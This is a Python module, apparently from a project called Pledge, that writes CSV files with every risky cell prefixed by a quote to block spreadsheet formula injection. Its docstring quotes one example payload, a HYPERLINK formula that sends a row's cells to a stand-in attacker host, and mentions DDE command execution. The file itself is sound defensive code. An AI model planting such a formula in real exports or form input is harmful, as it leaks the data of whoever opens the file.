"""CSV files for people to open: the one writer, and cells a spreadsheet shows but never runs.

A spreadsheet program opening a CSV runs a cell that begins with ``=``, ``+``, ``-`` or ``@``
(and, in some, one that begins with a tab or a carriage return) as a formula. A name typed into
a form as ``=HYPERLINK("http://evil.example/?"&A2,"x")`` would become, in a share file or a
person's export, a link that sends the row's other cells away when clicked, or a command run
through DDE. So every CSV Pledge writes for people goes through ``csv_text``, which puts a
single quote before such a cell, as OWASP advises (CSV Injection): the spreadsheet shows the
text, quote included, instead of running it.

Two kinds of value begin with ``+`` or ``-`` for good reasons and stay as they are:

- numbers, typed by their value: an ``int``, ``float`` or ``Decimal`` holds no formula;
- text in a column the caller types, e.g. ``typed={"phone": phone_valid}``: a value the check
  accepts, untrimmed, is kept (a phone number is digits, spaces, ``+``, ``-``, brackets and
  dots: arithmetic at worst, never a function or a reference); anything else in that column is
  neutralised like any other cell.

It lives outside the layers, like ``pledge.dates``: the domain apps that write files use it, and
it imports nothing of Pledge.
"""

import csv
import io
import json
import unicodedata
from collections.abc import Callable, Mapping
from decimal import Decimal

# What makes a spreadsheet read a cell as a formula (OWASP): its first character...
FORMULA_FIRST = ("=", "+", "-", "@", "\t", "\r")
# ... or the first one after leading spaces, full-width forms (U+FF1D ...) read as ASCII.
FORMULA_AFTER_SPACE = ("=", "+", "-", "@")


def cell_text(value) -> str:
    """``value`` as one cell's text: nested values as JSON, booleans as true and false."""
    if value is None:
        return ""
    if isinstance(value, list | dict):
        return json.dumps(value, ensure_ascii=False, sort_keys=True)
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


def cell_neutralise(text: str) -> str:
    """``text``, with a single quote before it if a spreadsheet would run it as a formula."""
    visible = unicodedata.normalize("NFKC", text.lstrip())
    if text.startswith(FORMULA_FIRST) or visible.startswith(FORMULA_AFTER_SPACE):
        return "'" + text
    return text


def cell_safe(value, check: Callable[[str], bool] | None = None) -> str:
    """One cell that opens as data: a number as it is, a typed value its ``check`` accepts as
    it is, anything else neutralised."""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return str(value)
    text = cell_text(value)
    # A value the check accepts only once trimmed is not the value the spreadsheet reads.
    if check is not None and text == text.strip() and check(text):
        return text
    return cell_neutralise(text)


def csv_text(
    records: list[dict],
    columns: list[str] | None = None,
    *,
    typed: Mapping[str, Callable[[str], bool]] | None = None,
) -> str:
    """``records`` as CSV under ``columns`` (by default, every key in the order first seen),
    every cell safe to open in a spreadsheet; ``typed`` maps a column to the check its values
    must pass to be kept as they are (see the module's doc)."""
    typed = typed or {}
    if columns is None:
        columns = list(dict.fromkeys(key for record in records for key in record))
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([cell_neutralise(str(column)) for column in columns])
    for record in records:
        writer.writerow([cell_safe(record.get(column), typed.get(column)) for column in columns])
    return buffer.getvalue()
